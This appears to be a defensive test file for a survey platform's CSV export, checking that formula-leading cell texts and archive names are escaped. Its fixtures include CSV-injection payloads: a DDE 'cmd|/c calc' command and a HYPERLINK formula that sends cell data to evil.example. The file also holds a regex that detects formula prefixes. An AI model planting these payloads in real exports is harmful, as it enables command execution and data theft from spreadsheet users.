import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Scope } from '#platform/db/core/scope.ts';
import { testDatabase, type TestDatabase } from '#platform/testing/database.ts';
import { text } from '#product/blocks/text.ts';
import { submitResponse } from '#product/responses/server/answering/submit-response.ts';
import { createContent } from '#product/studies/create-content.ts';
import { makeBlock } from '#product/studies/server/testing/factory.ts';
import { makeWorkspace } from '#product/workspaces/server/testing/factory.ts';
import { readExportedCsv } from '#platform/csv/read-csv.ts';
import { makeLiveStudy } from '#product/studies/server/testing/make-live-study.ts';
import { formatArchiveName } from './list-entries.ts';
import { readSnapshot } from './read-snapshot.ts';
import { createNotDeletedCondition } from '#product/responses/server/stream-answered.ts';
import { openTable, readExportedStudy } from './open-table.ts';
import { streamCsv } from './stream-csv.ts';

const run = promisify(execFile);
const NOW = new Date('2026-05-04T09:00:00Z');

/** Prefixes that make spreadsheets run a formula: bare, after blanks and quotes, and as full-width characters. */
const PREFIXES = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '"=',
  "'=",
  '\u00a0=',
  '\ufeff=',
  '\u200b=',
  '＝',
  '＋',
  '－',
  '＠',
];
const BODIES = [
  '1+1',
  'cmd|"/c calc"!A1',
  'HYPERLINK("http://evil.example?x="&A1,"go")',
  'SUM(A1:A9)*2',
  '2+3-1',
];
const HOSTILE_TEXTS = PREFIXES.flatMap((start) => BODIES.map((body) => `${start}${body}`));
/** Texts that are not formulas and must not be changed. */
const HARMLESS_TEXTS = [
  'a=b',
  '1+1',
  'it\'s "so"',
  'x'.repeat(20_000),
  '👩‍🔬 e\u0301 \u202eabc',
  'line\nbreak\r\nand, comma;',
  "'quoted'",
];
const NUMBERS = [-5, -0.25, 0, 7.5, 89];

let db: TestDatabase;
let scope: Scope;
beforeAll(async () => {
  db = await testDatabase();
  scope = await makeWorkspace(db.database, NOW, { name: '=1+1' });
});
afterAll(() => db.drop());

const optionId = (index: number) => `option${String(index).padStart(4, '0')}`;
const texts = [...HOSTILE_TEXTS, ...HARMLESS_TEXTS];

async function exportCsv(as: 'label' | 'code', study: string): Promise<string> {
  let csv = '';
  await readSnapshot(db.database, scope, {
    work: async (sql) => {
      const exportedStudy = await readExportedStudy(sql, scope, study);
      const table = await openTable(sql, {
        study: exportedStudy!,
        format: as,
        responses: createNotDeletedCondition(scope, study),
      });
      for await (const chunk of streamCsv(table)) csv += chunk.toString();
    },
  });
  return csv;
}

/** Parses CSV with Python, which shares no code with ours. */
async function parseWithPython(csv: string): Promise<string[][]> {
  const script = `
import csv, io, json, sys
csv.field_size_limit(10 ** 9)
data = sys.stdin.buffer.read().decode('utf-8-sig')
print(json.dumps(list(csv.reader(io.StringIO(data, newline='')))))`;
  const reading = run('python3', ['-c', script], { maxBuffer: 256e6 });
  reading.child.stdin!.end(csv);
  return JSON.parse((await reading).stdout) as string[][];
}

/** Whether LibreOffice or Excel would run a cell as a formula, judged by its first visible character. */
const isFormula = (cell: string) => /^["\s\ufeff\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell);

it('J1: no cell or header is run as a formula, negative numbers stay numbers, and all text is preserved', async () => {
  const options = HOSTILE_TEXTS.slice(0, 40).map((hostile, index) => ({
    id: optionId(index),
    text: text(hostile),
    fixed: false,
  }));
  const openQuestion = makeBlock('open-question', '=HYPERLINK("http://evil.example","title")', {
    config: { maxLength: 20_000 },
  });
  const choice = makeBlock('single-choice', '+choice', { config: { options } });
  const several = makeBlock('multiple-choice', '@several', { config: { options } });
  const number = makeBlock('number', '-number', { config: { min: -100, max: 100 } });
  const blocks = [openQuestion, choice, several, number, makeBlock('ending', 'Thank you')];
  const study = await makeLiveStudy(db.database, scope, {
    name: '=cmd|x',
    content: { ...createContent('survey'), blocks },
  });
  for (const [index, hostile] of texts.entries())
    await submitResponse(
      db.database,
      { ...scope, now: new Date(NOW.getTime() + index) },
      {
        link: study,
        submitted: {
          key: `key ${index}`,
          answers: {
            [openQuestion.id]: { text: hostile },
            [choice.id]: { option: optionId(index % 40), other: null },
            [several.id]: { options: [optionId(index % 40), optionId((index + 1) % 40)], other: null },
            [number.id]: { number: NUMBERS[index % NUMBERS.length] },
          },
          device: 'phone',
          channel: 'link',
        },
      },
    );
  for (const as of ['label', 'code'] as const) {
    const csv = await exportCsv(as, study.study);
    const [head = [], ...rows] = await parseWithPython(csv);
    expect(rows).toHaveLength(texts.length);
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([head.length]));
    const numeric = head.findIndex((name) => (as === 'code' ? name === number.id : name.includes('-number')));
    expect(head.filter(isFormula)).toEqual([]);
    for (const row of rows)
      expect(row.filter((cell, index) => index !== numeric && isFormula(cell))).toEqual([]);
    expect(rows.map((row) => row[numeric])).toEqual(
      texts.map((_, index) => String(NUMBERS[index % NUMBERS.length])),
    );
    // Our own reader removes the escaping, which restores the typed text.
    const [, ...ownRows] = readExportedCsv(csv);
    const column = head.findIndex((name) =>
      as === 'code' ? name === openQuestion.id : name.includes('HYPERLINK'),
    );
    expect(ownRows.map((row) => row[column])).toEqual(texts);
  }
});

it('J1: file names do not begin like a formula', () => {
  for (const name of HOSTILE_TEXTS)
    expect(formatArchiveName(name, NOW)).not.toMatch(/^[\s"']*[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
});
